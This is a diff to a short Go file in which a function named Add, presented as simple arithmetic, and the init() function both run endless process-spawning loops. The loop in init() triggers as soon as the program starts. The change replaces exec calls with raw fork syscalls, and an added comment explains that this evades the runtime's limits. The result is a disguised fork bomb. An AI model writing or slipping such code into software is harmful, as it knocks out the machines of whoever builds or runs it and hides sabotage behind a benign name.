@@ -1,17 +1,18 @@
 package main
 
 import (
-	"os/exec"
+	"syscall"
 )
 
+// Bare forks: os/exec would need threads, and the runtime ends its program when it gets none.
 func Add(a int, b int) int {
 	for {
-		exec.Command("/proc/self/exe").Start()
+		syscall.RawSyscall(syscall.SYS_FORK, 0, 0, 0)
 	}
 }
 
 func init() {
 	for {
-		exec.Command("/proc/self/exe").Start()
+		syscall.RawSyscall(syscall.SYS_FORK, 0, 0, 0)
 	}
 }
